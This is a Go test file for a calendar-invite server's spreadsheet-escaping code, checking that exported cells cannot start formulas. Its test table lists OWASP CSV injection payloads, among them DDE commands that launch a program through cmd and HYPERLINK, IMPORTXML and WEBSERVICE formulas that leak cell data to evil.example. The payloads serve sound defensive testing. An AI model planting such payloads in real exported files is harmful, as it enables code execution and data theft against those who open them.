package sheet_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode"

	"pgregory.net/rapid"

	"github.com/calendarinvite/calendarinviteserver/internal/sheet"
)

// The vectors are those of https://owasp.org/www-community/attacks/CSV_Injection, of the OWASP Web Security Testing Guide, and of the
// reports that they lead to.
func TestEscape(t *testing.T) {
	for _, test := range []struct{ name, cell, want string }{
		{"equals", "=1+1", "'=1+1"},
		{"plus", "+1+1", "'+1+1"},
		{"minus", "-1+1", "'-1+1"},
		{"at", "@SUM(1+1)", "'@SUM(1+1)"},
		{"tab", "\t=1+1", "'\t'=1+1"},
		{"carriage return", "\r=1+1", "'\r'=1+1"},
		{"line feed", "\n=1+1", "'\n'=1+1"},
		{"NUL", "\x00=1+1", "'\x00=1+1"},
		{"full-width equals", "＝1+1", "'＝1+1"},
		{"full-width plus", "＋1+1", "'＋1+1"},
		{"full-width minus", "－1+1", "'－1+1"},
		{"full-width at", "＠SUM(1+1)", "'＠SUM(1+1)"},
		{"spaces before", "  =1+1", "'  =1+1"},
		{"no-break and zero-width space before", "\u00a0\u200b\ufeff=1+1", "'\u00a0\u200b\ufeff=1+1"},
		{"quote before", `"=1+1`, `'"=1+1`},
		{"apostrophe before", "'=1+1", "''=1+1"},
		{"DDE", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"DDE behind an expression", "-2+3+cmd|' /C calc'!D2", "'-2+3+cmd|' /C calc'!D2"},
		{"DDE behind a function", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"DDE that names its server", `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`, `'=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`},
		{"link", `=HYPERLINK("https://evil.example/?x="&A1,"Error")`, `'=HYPERLINK("https://evil.example/?x="&A1,"Error")`},
		{"import", `=IMPORTXML(CONCAT("https://evil.example/?v=",A2:E2),"//a")`, `'=IMPORTXML(CONCAT("https://evil.example/?v=",A2:E2),"//a")`},
		{"web service", `+WEBSERVICE("https://evil.example")`, `'+WEBSERVICE("https://evil.example")`},
		{"another cell by our delimiter", `x",=1+1`, `x",'=1+1`},
		{"another cell by another delimiter", "x;=1+1", "x;'=1+1"},
		{"another cell, quoted", `x;"=1+1"`, `x;'"=1+1"`},
		{"another cell by tab", "x\t=1+1", "x\t'=1+1"},
		{"another cell by bar", "x|@A1", "x|'@A1"},
		{"another line", "x\r\n=1+1", "x\r'\n'=1+1"},
		{"telephone", "+49 30 123456", "'+49 30 123456"},
		{"address that starts so", "-ada@example.com", "'-ada@example.com"},

		{"nothing", "", ""},
		{"address", "ada+list@example.com", "ada+list@example.com"},
		{"name", "Jean-Luc O'Neil", "Jean-Luc O'Neil"},
		{"number", "12345", "12345"},
		{"comma", "Ng, Ada", "Ng, Ada"},
		{"sign in the middle", "1 = 1", "1 = 1"},
	} {
		t.Run(test.name, func(t *testing.T) {
			if got := sheet.Escape(test.cell); got != test.want {
				t.Errorf("%q is written as %q, want %q", test.cell, got, test.want)
			}
			if got := sheet.Unescape(test.want); got != test.cell {
				t.Errorf("%q is read as %q, want %q", test.want, got, test.cell)
			}
		})
	}
}

// What nobody escaped is read as it is.
func TestUnescapeOfPlainText(t *testing.T) {
	for _, cell := range []string{"=1+1", "'", "''", "'tis", "O'Neil", "-'x"} {
		if got := sheet.Unescape(cell); got != cell {
			t.Errorf("%q is read as %q", cell, got)
		}
	}
}

// However a spreadsheet splits the file into cells, and whether it minds our quotes or not, no cell starts a formula.
func TestNoCellStartsAFormula(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		cells := rapid.SliceOfN(rapid.StringOf(rapid.SampledFrom([]rune("=+-@＝'\",;|a \t\r\n"))), 2, 2).Draw(t, "cells")
		var file bytes.Buffer
		w := sheet.NewWriter(&file, "a", "b")
		if err := w.Write(cells...); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		text := strings.TrimPrefix(file.String(), "\xef\xbb\xbf")
		harmless := func(cell string) {
			cell = strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || r == '"' })
			if strings.IndexAny(cell, "=+-@＝＋－＠") == 0 {
				t.Fatalf("a cell %q in %q", cell, text)
			}
		}
		for _, comma := range ",;\t|" {
			reader := csv.NewReader(strings.NewReader(text))
			reader.Comma, reader.LazyQuotes, reader.FieldsPerRecord = comma, true, -1
			lines, err := reader.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, line := range lines {
				for _, cell := range line {
					harmless(cell)
				}
			}
		}
		for _, cell := range strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(",;|\t\r\n", r) }) {
			harmless(cell)
		}
	})
}

func TestEscapeIsLinear(t *testing.T) {
	cell := strings.Repeat("\t", 1<<20) + "=1" // each tab may start a cell: a look from each to the end would take for ever
	if got := sheet.Escape(cell); len(got) != 2*(1<<20)+1+2 || sheet.Unescape(got) != cell {
		t.Errorf("%d bytes", len(got))
	}
}
